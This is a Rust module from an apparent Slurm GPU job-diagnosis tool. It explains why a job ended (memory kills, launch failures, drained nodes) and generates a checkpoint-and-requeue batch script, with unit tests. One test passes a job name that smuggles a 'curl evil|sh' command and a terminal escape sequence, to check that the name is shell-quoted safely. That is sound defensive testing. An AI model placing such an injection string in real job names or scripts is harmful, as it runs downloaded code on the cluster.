//! `spank-gpu autopsy`: why an ended job died, from accounting (`sacct`,
//! text or JSON) and, while slurmctld still has it, `scontrol`, with what
//! the caller found in its log, on disk and in its nodes' events. Per
//! release: a missing log directory kills a job at launch only before 23.02;
//! `sacct` knows the log's path from 24.05; `--requeue=expedite` is advice
//! from 25.11. The first failure of the job's steps and the cause its log
//! shows are [`super::first_failure`]'s and [`super::causes`]'s; what a
//! preempted job was sent, [`super::preemption`]'s (the caller asks the
//! cluster and sets [`Autopsy::preemption`]).

use std::fmt::Write as _;
use std::path::Path;

use super::Row;
use super::causes::{Cause, find_cause};
use super::evidence::{Blocker, NodeEvent, OomKind, PathCheck, classify_oom};
use super::explain::{exit_in_words, is_active_state, raised_signal, state_in_words};
use super::first_failure::{FirstFailure, first_failure};
use super::json::expanded_path;
use super::preemption::Preemption;
use super::release::{Feature, Release};
use super::usage::tres_gpus;
use slurm_formats::hostlist;
use slurm_formats::units::{format_size, parse_duration, parse_size};

use crate::time::parse_time;

/// The `sacct -P -o` fields `autopsy` asks for on `release`, in this order:
/// the user's text last (see [`super::parse::TEXT_COLUMNS`]); `StdOut` and
/// `StdErr` where `sacct` has them (24.05 on, with `--expand-patterns`).
pub fn sacct_fields(release: Release) -> String {
    let mut f = String::from(
        "JobID,User,State,ExitCode,DerivedExitCode,Start,End,Elapsed,Timelimit,NodeList,ReqMem,MaxRSS,Reason,JobName,WorkDir",
    );
    if release.has(Feature::SacctStdPaths) {
        f.push_str(",StdOut,StdErr");
    }
    f
}

/// Why [`ended_job`] has no ended job to look at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Lookup {
    /// Neither accounting nor Slurm's memory has it (or the site hides it).
    NotFound,
    /// Slurm has it in memory, accounting not yet.
    NotYetAccounted,
    /// It has not ended: its state word (`RUNNING`, `PENDING`, ...).
    NotEnded(String),
}

/// An ended job as accounting (and `scontrol`, while Slurm still has the job)
/// tells it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct EndedJob {
    /// The job's own `sacct` row, with what slurmdbd did not have yet filled in from `scontrol`.
    pub row: Row,
    /// Its `STATUS:SIGNAL`: the job's own, or for a job that did not complete
    /// with `0:0` on its own row, the first step's that is not `0:0`.
    pub exit_code: String,
    /// Its nodes.
    pub nodes: Vec<String>,
    /// Memory it asked for (bytes).
    pub req_mem: Option<u64>,
    /// The largest `MaxRSS` of its steps (bytes).
    pub max_rss: Option<u64>,
    /// Its `--output` and `--error` paths: Slurm's memory's, else (24.05 on)
    /// accounting's.
    pub output_paths: Vec<String>,
    /// `scontrol`'s reason while Slurm has the job in memory, else accounting's.
    pub reason: String,
    /// Its steps' `sacct` rows (`J.batch`, `J.0`, ...), in accounting's order.
    pub steps: Vec<Row>,
    /// The GPUs it held (`gres/gpu` of its allocated TRES), when known.
    pub gpus: Option<u32>,
}

/// `sacct -P --expand-patterns` rows of `release` with the `/` put back that
/// 24.05 drops between the working directory and a relative log path. The
/// text cannot say whether the path was relative: one that starts with the
/// working directory and goes on without a `/` is taken as glued (the JSON
/// of 24.11 and 25.05 says, see [`expanded_path`]).
pub fn fix_glued_paths(rows: &mut [Row], release: Release) {
    for r in rows {
        let work_dir = r.get("WorkDir").cloned().unwrap_or_default();
        for k in ["StdOut", "StdErr"] {
            if let Some(p) = r.get_mut(k) {
                *p = expanded_path("relative", p, &work_dir, release);
            }
        }
    }
}

/// The job in `rows` (`sacct` with [`sacct_fields`]) and `record` (`scontrol
/// show job`).
pub fn ended_job(rows: &[Row], record: Option<&Row>) -> Result<EndedJob, Lookup> {
    let rget = |k: &str| record.and_then(|r| r.get(k)).map(String::as_str).unwrap_or("");
    let Some(mut row) = rows.iter().find(|r| r.get("JobID").is_some_and(|j| !j.contains('.'))).cloned()
    else {
        return Err(if record.is_some() { Lookup::NotYetAccounted } else { Lookup::NotFound });
    };
    // Right after a short job, slurmdbd may hold only what the steps sent (a
    // record named "allocation", no time limit, no memory): fill those in
    // from Slurm's memory while it has the job.
    if row.get("Timelimit").is_none_or(String::is_empty) && record.is_some() {
        let mem =
            ["MinMemoryNode", "MinMemoryCPU"].iter().map(|k| rget(k)).find(|m| !m.is_empty()).unwrap_or("");
        for (k, v) in [("JobName", rget("JobName")), ("Timelimit", rget("TimeLimit")), ("ReqMem", mem)] {
            row.insert(k.to_owned(), v.to_owned());
        }
    }
    let get = |k: &str| row.get(k).map(String::as_str).unwrap_or("");
    let word = get("State").split_whitespace().next().unwrap_or("").to_owned();
    if is_active_state(&word) {
        return Err(Lookup::NotEnded(word));
    }
    let mut exit_code = get("ExitCode").to_owned();
    if exit_code == "0:0" && word != "COMPLETED" {
        if let Some(step) =
            rows.iter().filter_map(|r| r.get("ExitCode")).find(|e| *e != "0:0" && !e.is_empty())
        {
            exit_code = step.clone();
        }
    }
    let nodes = match get("NodeList") {
        "" | "None assigned" => Vec::new(),
        l => hostlist::expand(l).unwrap_or_default(),
    };
    let mut output_paths: Vec<String> = Vec::new();
    let mut add = |p: String| {
        if !p.is_empty() && !output_paths.contains(&p) {
            output_paths.push(p);
        }
    };
    if record.is_some_and(|r| r.contains_key("StdOut")) {
        add(rget("StdErr").to_owned());
        add(rget("StdOut").to_owned());
    } else if row.contains_key("StdOut") {
        // Accounting's (24.05 on, expanded).
        let work_dir = get("WorkDir");
        let batch = rows.iter().any(|r| r.get("JobID").is_some_and(|j| j.ends_with(".batch")));
        if get("StdOut").is_empty() && batch && !work_dir.is_empty() {
            // No --output: slurmd's default, slurm-%j.out (slurm-%A_%a.out for an array task).
            add(format!("{}/slurm-{}.out", work_dir.trim_end_matches('/'), get("JobID")));
        }
        add(get("StdErr").to_owned());
        add(get("StdOut").to_owned());
    }
    let reason = if record.is_some() { rget("Reason") } else { get("Reason") };
    let tres = |r: &Row| ["AllocTRES", "TRES"].iter().find_map(|k| r.get(*k).and_then(|t| tres_gpus(t)));
    let gpus = tres(&row).or_else(|| record.and_then(tres));
    let steps = rows.iter().filter(|r| r.get("JobID").is_some_and(|j| j.contains('.'))).cloned().collect();
    Ok(EndedJob {
        steps,
        gpus,
        exit_code,
        nodes,
        req_mem: parse_size(get("ReqMem")),
        max_rss: rows.iter().filter_map(|r| r.get("MaxRSS").and_then(|m| parse_size(m))).max(),
        output_paths,
        reason: reason.to_owned(),
        row,
    })
}

impl EndedJob {
    /// A field of its row; empty when absent.
    pub fn get(&self, key: &str) -> &str {
        self.row.get(key).map_or("", String::as_str)
    }

    /// The first word of its state: `CANCELLED` of `CANCELLED by 0`.
    pub fn state_word(&self) -> &str {
        self.get("State").split_whitespace().next().unwrap_or("")
    }

    /// `(status, signal)` of its exit code.
    pub fn exit(&self) -> (Option<u32>, Option<u32>) {
        let (code, sig) = self.exit_code.split_once(':').unwrap_or((&self.exit_code, "0"));
        (code.parse().ok(), sig.parse().ok())
    }

    /// Its run, `[start, end + margin_s]` in [`parse_time`]'s seconds, when it ran.
    pub fn window(&self, margin_s: i64) -> Option<(i64, i64)> {
        let from = parse_time(self.get("Start"))?;
        let to = parse_time(self.get("End")).unwrap_or(from);
        Some((from, to.saturating_add(margin_s)))
    }

    /// Whether Slurm failed it at launch, before its program ran: `0:53`
    /// (`ESLURMD_IO_ERROR`, see [`super::explain`]) or `JobLaunchFailure`
    /// with no signal.
    pub fn failed_at_launch(&self) -> bool {
        let (_, signal) = self.exit();
        self.state_word() != "COMPLETED"
            && (self.exit_code == "0:53" || (self.reason == "JobLaunchFailure" && signal == Some(0)))
    }

    /// The directories of its log paths (`--output`, `--error`).
    pub fn output_dirs(&self) -> Vec<String> {
        let mut dirs: Vec<String> = Vec::new();
        for p in &self.output_paths {
            if let Some(d) = Path::new(p).parent().filter(|d| !d.as_os_str().is_empty()) {
                let d = d.display().to_string();
                if !dirs.contains(&d) {
                    dirs.push(d);
                }
            }
        }
        dirs
    }
}

/// What `autopsy` concludes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Autopsy {
    /// Host or GPU out-of-memory, when the state, memory or log say so.
    pub oom: Option<OomKind>,
    /// The findings, in the order they are printed.
    pub findings: Vec<String>,
    /// For `TIMEOUT` and `PREEMPTED`: the checkpoint-and-requeue recipe.
    pub recipe: Option<String>,
    /// The first failure of its steps, when its log or its steps' accounting show one.
    pub first_failure: Option<FirstFailure>,
    /// The cause its log (or a GPU's Xid during the run) shows.
    pub cause: Option<Cause>,
    /// For `PREEMPTED`: what it was sent, once the caller asked the cluster
    /// ([`Autopsy::set_preemption`]).
    pub preemption: Option<Preemption>,
}

impl Autopsy {
    /// Adds what a preempted job was sent: its words go after the findings so far.
    pub fn set_preemption(&mut self, p: Preemption) {
        self.findings.extend(p.lines.iter().cloned());
        self.preemption = Some(p);
    }
}

/// The conclusions about `job` on `release`, given what the caller found
/// about its log paths, the end of its log (when read) and its nodes'
/// events during the run.
pub fn autopsy(
    job: &EndedJob,
    paths: &[PathCheck],
    log: Option<&str>,
    events: &[NodeEvent],
    release: Release,
) -> Autopsy {
    let word = job.state_word();
    let (_, signal) = job.exit();
    let over_mem = matches!((job.max_rss, job.req_mem), (Some(used), Some(asked)) if used >= asked);
    let oom = match (log.and_then(classify_oom), word) {
        (Some(k), _) => Some(k),
        (None, "OUT_OF_MEMORY") => Some(OomKind::Host),
        // A cgroup OOM: Slurm's SIG_OOM marker, 0:125.
        (None, _) if signal == Some(125) => Some(OomKind::Host),
        // Slurm's OverMemoryKill ends the job FAILED 0:9 (Reason JobLaunchFailure) with MaxRSS above --mem.
        (None, _) if signal == Some(9) && over_mem => Some(OomKind::Host),
        _ => None,
    };
    let mut findings = vec![state_in_words(job.get("State"))];
    if word != "COMPLETED" {
        findings.push(exit_in_words(&job.exit_code));
    }
    if let Some((n, name)) = raised_signal(&job.reason).filter(|(n, _)| signal != Some(*n)) {
        findings.push(format!("Slurm's reason: the program was killed by signal {n} ({name})"));
    }
    if let Some(f) = launch_finding(job, paths, release) {
        findings.push(f);
    } else if oom.is_none() && job.failed_at_launch() {
        findings.push(
            "Slurm could not launch the job (often an --output/--error path it cannot open, or a missing \
             working directory)"
                .to_owned(),
        );
    }
    match oom {
        Some(OomKind::Host) => findings.push(format!(
            "host memory ran out: the job asked for {} and its largest step used {}; ask for more --mem \
             (GPU memory is a different limit)",
            job.req_mem.map_or("an unknown amount".to_owned(), format_size),
            job.max_rss.map_or("an unknown amount (MaxRSS not recorded)".to_owned(), format_size)
        )),
        Some(OomKind::Gpu) => findings.push(
            "GPU memory ran out (CUDA out of memory in the log): a smaller batch, activation checkpointing or \
             more GPUs help; --mem does not"
                .to_owned(),
        ),
        None => {}
    }
    for ev in events {
        findings.push(match &ev.agent {
            Some(a) => {
                format!("{} (at {}). Resubmit: Slurm will not place it on that node", a.meaning, ev.start)
            }
            None => format!("node {} went {} at {}: {}", ev.node, ev.state, ev.start, ev.reason),
        });
    }
    let lost_node =
        word == "NODE_FAIL" || events.iter().any(|e| e.agent.is_some() || e.state.contains("DOWN"));
    if lost_node && release.has(Feature::ExpeditedRequeue) {
        let since = Feature::ExpeditedRequeue.since();
        findings.push(format!(
            "next time, let Slurm rerun it at once: submit with --requeue=expedite (Slurm {}.{:02} and newer, \
             where the site sets SlurmctldParameters=enable_expedited_requeue): after a node failure, or a \
             non-zero exit whose node fails its epilog (the site's Epilog gate, `gpu-node-agent epilog`, fails \
             it on a node whose GPU the agent drained), the job is requeued first in the queue; a failure of \
             its own (epilogs pass) holds it instead",
            since.major, since.minor
        ));
    }
    let recipe = matches!(word, "TIMEOUT" | "PREEMPTED").then(|| {
        requeue_recipe(
            job.get("JobName"),
            parse_duration(job.get("Timelimit")),
            "srun --cpus-per-task=\"$SLURM_CPUS_PER_TASK\" python train.py",
        )
    });
    let all_rows: Vec<Row> = std::iter::once(job.row.clone()).chain(job.steps.iter().cloned()).collect();
    let first = first_failure(&all_rows, log, job.get("End"), job.gpus);
    // A job that completed has no cause of death, whatever its log warned of.
    let cause = (word != "COMPLETED" || first.is_some())
        .then(|| {
            find_cause(
                log,
                events,
                first.as_ref().and_then(|f| f.node.as_deref()),
                first.as_ref().and_then(|f| f.task),
            )
        })
        .flatten();
    Autopsy { oom, findings, recipe, first_failure: first, cause, preemption: None }
}

/// What the log paths say about a job that failed at launch, per release:
/// a path through a file, or a directory the user cannot write, kills it at
/// launch on every release; a missing directory only before 23.02 (since
/// then slurmstepd creates it, and one still missing means the node could not).
fn launch_finding(job: &EndedJob, paths: &[PathCheck], release: Release) -> Option<String> {
    let missing: Vec<&str> =
        paths.iter().filter_map(|p| p.missing.last().map(String::as_str)).fold(Vec::new(), |mut v, d| {
            if !v.contains(&d) {
                v.push(d);
            }
            v
        });
    let creates = release.has(Feature::CreatesOutputDirs);
    if !creates && !missing.is_empty() && job.state_word() != "COMPLETED" {
        return Some(format!(
            "Slurm could not open the job's output: the directory {} does not exist, so the job failed at \
             launch with no log (Slurm {}.{:02} does not create it; 23.02 and newer do). Create it (mkdir -p) \
             and resubmit",
            missing.join(" and "),
            release.major,
            release.minor
        ));
    }
    if !job.failed_at_launch() || paths.is_empty() {
        return None;
    }
    if let Some(b) = paths.iter().find_map(|p| p.blocker.as_ref()) {
        return Some(match b {
            Blocker::NotADirectory(f) => format!(
                "Slurm could not open the job's log: {f} is a file, not a directory, so the job failed at \
                 launch with no log. Fix the --output/--error path and resubmit"
            ),
            Blocker::NotWritable(d) => format!(
                "Slurm could not open the job's log: {d} is not writable by you (Slurm writes the log, and \
                 from 23.02 creates its missing directories, as the job's user), so the job failed at launch \
                 with no log. Pick a directory you can write and resubmit"
            ),
        });
    }
    Some(if missing.is_empty() {
        "Slurm could not open the job's output at launch, yet its path is fine on this host: on the node it \
         ran on, the path is on a file system that node lacks, a directory you cannot write there, or a full \
         or read-only disk. Check the path from the node (srun -w NODE ls -ld DIR)"
            .to_owned()
    } else {
        format!(
            "Slurm could not create the job's log directory {}: Slurm 23.02 and newer create a missing one as \
             the job's user, so on the node it could not; the path is on a file system that node lacks (not \
             mounted there), or under a directory you cannot write there. Use a path on a shared file system \
             you can write",
            missing.join(" and ")
        )
    })
}

/// The guide's checkpoint-and-requeue recipe, filled in for a job: the lead
/// time is a tenth of its time limit, between 2 and 10 minutes, and at most half the limit
/// (3 minutes, as the guide has it, when the limit is unknown).
pub fn requeue_recipe(job_name: &str, limit_secs: Option<u64>, srun_line: &str) -> String {
    let lead = limit_secs.map_or(180, |l| (l / 10).clamp(120, 600).min(l / 2).max(1));
    // The job's name is the user's text: one shell word however it is spelt.
    let name = slurm_formats::text::shell_word(if job_name.is_empty() { "myjob" } else { job_name });
    let mut r = String::new();
    let _ = writeln!(r, "#SBATCH --signal=B:USR1@{lead}   # USR1 to the batch shell {lead} s before the end");
    let _ = writeln!(r, "#SBATCH --requeue                # let Slurm run it again");
    let _ = writeln!(r, "CKPT_DIR=${{SCRATCH:-$HOME}}/ckpt/{name}");
    let _ = writeln!(r, "mkdir -p \"$CKPT_DIR\"");
    let _ = writeln!(r, "on_usr1() {{");
    let _ =
        writeln!(r, "  touch \"$CKPT_DIR/SAVE_AND_EXIT\"   # your training loop checks this file every step");
    let _ = writeln!(r, "  wait \"$SRUN_PID\"                  # let the checkpoint finish");
    let _ = writeln!(r, "  scontrol requeue \"$SLURM_JOB_ID\"");
    let _ = writeln!(r, "  exit 0");
    let _ = writeln!(r, "}}");
    let _ = writeln!(r, "trap on_usr1 USR1");
    let _ = writeln!(r, "{srun_line} --ckpt-dir \"$CKPT_DIR\" &");
    let _ = writeln!(r, "SRUN_PID=$!");
    let _ = writeln!(r, "wait \"$SRUN_PID\"");
    let _ = writeln!(
        r,
        "Why B: the signal goes to the batch shell, whose trap saves and requeues; without B: it goes to the \
         tasks and the trap never runs. Why srun in the background with wait: bash runs a trap only between \
         commands, so with srun in the foreground the trap waits until srun has ended (too late); `wait` \
         returns as soon as the signal arrives. Measure how long a checkpoint takes and set the lead time to \
         twice that."
    );
    r
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::parse_events;
    use crate::json::{parse_sacct_jobs, set_times};
    use crate::parse::parse_parsable;
    use crate::release::{R22_05, R24_05, R24_11, R25_11, R26_05};
    use crate::scontrol::parse_job_record;
    use std::collections::BTreeMap;

    macro_rules! fixture {
        ($release:literal, $name:literal) => {
            include_str!(concat!("../tests/fixtures/jobinfo/", $release, "/", $name))
        };
    }

    fn record(line: &str) -> Option<Row> {
        parse_job_record(line).ok()
    }

    fn json_rows(text: &str, release: Release) -> Vec<Row> {
        let mut rows = parse_sacct_jobs(text, release).unwrap_or_default();
        set_times(&mut rows, &BTreeMap::new());
        rows
    }

    fn missing(dir: &str) -> PathCheck {
        PathCheck { path: format!("{dir}/7.out"), missing: vec![dir.to_owned()], blocker: None }
    }

    #[test]
    fn fields_per_release() {
        assert!(!sacct_fields(R22_05).contains("StdOut"));
        assert!(sacct_fields(R24_05).ends_with(",JobName,WorkDir,StdOut,StdErr"));
    }

    #[test]
    fn autopsy_of_a_non_zero_exit() {
        let job = ended_job(&parse_parsable(fixture!("22.05", "exit3.sacct")), None).expect("ended");
        assert_eq!((job.exit(), job.nodes.as_slice()), ((Some(3), Some(0)), ["node1".to_owned()].as_slice()));
        let a = autopsy(&job, &[], Some("Traceback ...\nValueError: bad\n"), &[], R22_05);
        assert_eq!(a.oom, None);
        assert_eq!(a.recipe, None);
        assert!(a.findings[1].contains("exited with status 3"), "{:?}", a.findings);
        assert_eq!(a.findings.len(), 2, "{:?}", a.findings);
        // The same from 24.11's JSON, whose log path accounting knows.
        let job = ended_job(&json_rows(fixture!("24.11", "exit3.sacct.json"), R24_11), None).expect("ended");
        assert_eq!((job.exit_code.as_str(), job.get("State")), ("3:0", "FAILED"));
        assert_eq!(job.output_paths, ["/home/alice/wrap-42.out"]);
        assert_eq!(job.max_rss, Some(4 << 20));
        assert_eq!(job.get("Start"), "2026-11-30T18:58:25");
        assert_eq!(job.get("Timelimit"), "00:10:00");
        let a = autopsy(&job, &[], None, &[], R24_11);
        assert!(a.findings[1].contains("exited with status 3"), "{:?}", a.findings);
    }

    #[test]
    fn logs_from_accounting_with_the_slash_back() {
        let mut rows = parse_parsable(fixture!("24.05", "exit3-relative.sacct"));
        fix_glued_paths(&mut rows, R24_05);
        let job = ended_job(&rows, None).expect("ended");
        assert_eq!(job.output_paths, ["/home/alice/train-61.out"]);
        // A name with the separator in it: the user's columns are skipped, the rest kept.
        let rows = parse_parsable(fixture!("24.05", "launch-pipe-name.sacct"));
        let job = ended_job(&rows, None).expect("ended");
        assert_eq!((job.exit_code.as_str(), job.reason.as_str()), ("0:53", "JobLaunchFailure"));
        assert!(job.output_paths.is_empty() && job.get("JobName").is_empty(), "{job:?}");
        // No --output: slurmd's default in the working directory.
        let mut rows = parse_parsable(fixture!("24.05", "exit3-relative.sacct"));
        rows[0].insert("StdOut".into(), String::new());
        rows[0].insert("StdErr".into(), String::new());
        assert_eq!(
            ended_job(&rows, None).map(|j| j.output_paths),
            Ok(vec!["/home/alice/slurm-61.out".into()])
        );
    }

    #[test]
    fn autopsy_of_an_over_memory_kill() {
        // FAILED 0:9 with Reason=JobLaunchFailure: not a launch failure, a host OOM.
        let rows = parse_parsable(fixture!("22.05", "oom.sacct"));
        let job = ended_job(&rows, record(fixture!("22.05", "oom.scontrol")).as_ref()).expect("ended");
        assert_eq!(job.reason, "JobLaunchFailure");
        let a = autopsy(&job, &[], None, &[], R22_05);
        assert_eq!(a.oom, Some(OomKind::Host));
        assert!(a.findings.iter().any(|f| f.contains("asked for 20 MiB and its largest step used 607 MiB")));
        assert!(!a.findings.iter().any(|f| f.contains("could not launch the job")), "{:?}", a.findings);
    }

    #[test]
    fn a_cgroup_oom_is_memory_not_a_launch_failure() {
        let job = ended_job(&json_rows(fixture!("26.05", "oom.sacct.json"), R26_05), None).expect("ended");
        assert_eq!((job.get("State"), job.exit_code.as_str()), ("OUT_OF_MEMORY", "0:125"));
        assert_eq!((job.req_mem, job.max_rss), (Some(20 << 20), Some(300 << 20)));
        assert_eq!(job.output_paths, ["/home/alice/logs/47.out"]);
        let a = autopsy(&job, &[], None, &[], R26_05);
        assert_eq!(a.oom, Some(OomKind::Host));
        assert!(!a.findings.iter().any(|f| f.contains("before or at launch")), "{:?}", a.findings);
        assert!(
            a.findings.iter().any(|f| f.contains("more memory than the job's limit")),
            "{:?}",
            a.findings
        );
        assert!(a.findings.iter().any(|f| f.contains("asked for 20 MiB and its largest step used 300 MiB")));
    }

    #[test]
    fn a_missing_output_directory_per_release() {
        let rec = record(fixture!("22.05", "nodir.scontrol"));
        let rows = parse_parsable(
            "JobID|JobName|State|ExitCode|Start|End|Timelimit|NodeList\n7|wrap|FAILED|0:53|2026-11-30T18:59:41|2026-11-30T18:59:41|UNLIMITED|node1\n",
        );
        let job = ended_job(&rows, rec.as_ref()).expect("ended");
        assert_eq!(job.output_paths, ["/tmp/why16/nodir/7.out"]);
        assert_eq!(job.output_dirs(), ["/tmp/why16/nodir"]);
        let checks = [missing("/tmp/why16/nodir")];
        // 22.05: the missing directory is the cause.
        let a = autopsy(&job, &checks, None, &[], R22_05);
        assert!(
            a.findings.iter().any(|f| f.contains("the directory /tmp/why16/nodir does not exist")),
            "{a:?}"
        );
        // 23.02 and newer create it: still missing, the node could not.
        let a = autopsy(&job, &checks, None, &[], R24_11);
        assert!(!a.findings.iter().any(|f| f.contains("does not exist, so")), "{a:?}");
        assert!(a.findings.iter().any(|f| f.contains("file system that node lacks")), "{a:?}");
        let file = PathCheck {
            blocker: Some(Blocker::NotADirectory("/tmp/why16".into())),
            ..missing("/tmp/why16/nodir")
        };
        let a = autopsy(&job, &[file], None, &[], R26_05);
        assert!(a.findings.iter().any(|f| f.contains("/tmp/why16 is a file, not a directory")), "{a:?}");
        let ro = PathCheck {
            blocker: Some(Blocker::NotWritable("/tmp/why16".into())),
            ..missing("/tmp/why16/nodir")
        };
        let a = autopsy(&job, &[ro], None, &[], R26_05);
        assert!(a.findings.iter().any(|f| f.contains("/tmp/why16 is not writable by you")), "{a:?}");
        let fine = autopsy(
            &job,
            &[PathCheck { path: "/tmp/x/7.out".into(), ..PathCheck::default() }],
            None,
            &[],
            R26_05,
        );
        assert!(fine.findings.iter().any(|f| f.contains("its path is fine on this host")), "{fine:?}");
        // A job that completed on 23.02+ although its directory is gone now: nothing to say about it.
        let done = parse_parsable("JobID|State|ExitCode\n7|COMPLETED|0:0\n");
        let a = autopsy(&ended_job(&done, rec.as_ref()).expect("ended"), &checks, None, &[], R26_05);
        assert_eq!(a.findings.len(), 1, "{a:?}");
        // Without the path known (Slurm forgot the job): the generic launch failure.
        let a = autopsy(&ended_job(&rows, None).expect("ended"), &[], None, &[], R22_05);
        assert!(a.findings.iter().any(|f| f.contains("could not launch the job")), "{:?}", a.findings);
    }

    #[test]
    fn autopsy_of_a_job_on_a_node_the_agent_drained() {
        let job = ended_job(&parse_parsable(fixture!("22.05", "cancelled.sacct")), None).expect("ended");
        // Its own row says 0:0; the batch step has the signal.
        assert_eq!(job.exit_code, "0:15");
        let (from, to) = job.window(300).expect("ran");
        let events = parse_events(fixture!("22.05", "events.sacctmgr"), from, to);
        let a = autopsy(&job, &[], None, &events, R22_05);
        assert!(a.findings[0].contains("cancelled by uid 0"), "{:?}", a.findings);
        assert!(
            a.findings.iter().any(|f| f.starts_with("GPU 3 on node2 failed with Xid 79")),
            "{:?}",
            a.findings
        );
        assert!(!a.findings.iter().any(|f| f.contains("expedite")), "{:?}", a.findings);
        // 25.11 and newer: rerun it at once next time.
        let a = autopsy(&job, &[], None, &events, R25_11);
        assert!(
            a.findings.last().is_some_and(|f| f.contains("--requeue=expedite (Slurm 25.11 and newer")),
            "{a:?}"
        );
    }

    #[test]
    fn expedited_requeue_only_where_the_release_has_it() {
        for (text, release, advised) in [
            (fixture!("24.11", "nodefail.sacct.json"), R24_11, false),
            (fixture!("26.05", "nodefail.sacct.json"), R26_05, true),
        ] {
            let job = ended_job(&json_rows(text, release), None).expect("ended");
            assert_eq!(job.state_word(), "NODE_FAIL");
            let a = autopsy(&job, &[], None, &[], release);
            assert_eq!(
                a.findings.iter().any(|f| f.contains("--requeue=expedite")),
                advised,
                "{release}: {a:?}"
            );
            assert!(a.findings[0].contains("not your code"), "{a:?}");
        }
    }

    #[test]
    fn raised_signal_is_a_death_by_signal() {
        let mut rec = record(fixture!("22.05", "oom.scontrol")).expect("record");
        rec.insert("Reason".into(), "RaisedSignal:11(Segmentation_fault)".into());
        let rows = parse_parsable("JobID|State|ExitCode|Timelimit\n9|FAILED|0:0|00:10:00\n");
        let a = autopsy(&ended_job(&rows, Some(&rec)).expect("ended"), &[], None, &[], R24_11);
        assert!(a.findings.iter().any(|f| f.contains("killed by signal 11 (Segmentation fault)")), "{a:?}");
    }

    #[test]
    fn autopsy_lookups() {
        assert_eq!(ended_job(&[], None), Err(Lookup::NotFound));
        assert_eq!(
            ended_job(&[], record(fixture!("22.05", "held.scontrol")).as_ref()),
            Err(Lookup::NotYetAccounted)
        );
        let running = parse_parsable("JobID|State\n5|RUNNING\n5.batch|RUNNING\n");
        assert_eq!(ended_job(&running, None), Err(Lookup::NotEnded("RUNNING".into())));
        let expediting = parse_parsable("JobID|State\n5|EXPEDITING\n");
        assert_eq!(ended_job(&expediting, None), Err(Lookup::NotEnded("EXPEDITING".into())));
        // A steps-only record right after the job: filled in from scontrol.
        let early =
            parse_parsable("JobID|JobName|State|ExitCode|Timelimit|ReqMem\n8|allocation|FAILED|0:9||\n");
        let job = ended_job(&early, record(fixture!("22.05", "oom.scontrol")).as_ref()).expect("ended");
        assert_eq!((job.get("JobName"), job.req_mem), ("wrap", Some(20 * 1024 * 1024)));
        let timeout = parse_parsable("JobID|JobName|State|ExitCode|Timelimit\n9|seg|TIMEOUT|0:0|00:10:00\n");
        let a = autopsy(&ended_job(&timeout, None).expect("ended"), &[], None, &[], R22_05);
        assert!(a.recipe.is_some_and(|r| r.contains("@120") && r.contains("ckpt/seg")));
    }

    #[test]
    fn a_completed_job_has_no_cause_whatever_its_log_warned_of() {
        let done = parse_parsable("JobID|State|ExitCode\n9|COMPLETED|0:0\n");
        let log = "node1:1:2 [0] misc/socket.cc:457 NCCL WARN socketTryAccept: bind failed: Address already in use\n";
        let a = autopsy(&ended_job(&done, None).expect("ended"), &[], Some(log), &[], R24_11);
        assert_eq!((a.first_failure, a.cause), (None, None));
        let failed = parse_parsable("JobID|State|ExitCode\n9|FAILED|1:0\n");
        let a = autopsy(&ended_job(&failed, None).expect("ended"), &[], Some(log), &[], R24_11);
        assert_eq!(a.cause.map(|c| c.class.id()), Some("nccl-error"));
    }

    #[test]
    fn the_recipe_is_filled_in() {
        let r = requeue_recipe("pretrain", Some(3600), "srun python train.py");
        assert!(r.contains("--signal=B:USR1@360"), "{r}");
        assert!(r.contains("--requeue") && r.contains("trap on_usr1 USR1"));
        assert!(
            r.contains("srun python train.py --ckpt-dir \"$CKPT_DIR\" &\nSRUN_PID=$!\nwait \"$SRUN_PID\"")
        );
        assert!(r.contains("ckpt/pretrain") && r.contains("Why B:"));
        assert!(requeue_recipe("", None, "srun x").contains("@180"));
        // A name that is shell is pasted as one quoted word, controls replaced.
        let r = requeue_recipe("x; curl evil|sh #\x1b]52;c;AA==\x07", None, "srun x");
        assert!(r.contains("CKPT_DIR=${SCRATCH:-$HOME}/ckpt/'x; curl evil|sh #_]52;c;AA==_'\n"), "{r}");
        assert!(requeue_recipe("it's", None, "srun x").contains("/ckpt/'it'\\''s'\n"));
        assert!(requeue_recipe("", Some(60), "srun x").contains("@30"));
        assert!(requeue_recipe("", Some(86400), "srun x").contains("@600"));
    }
}
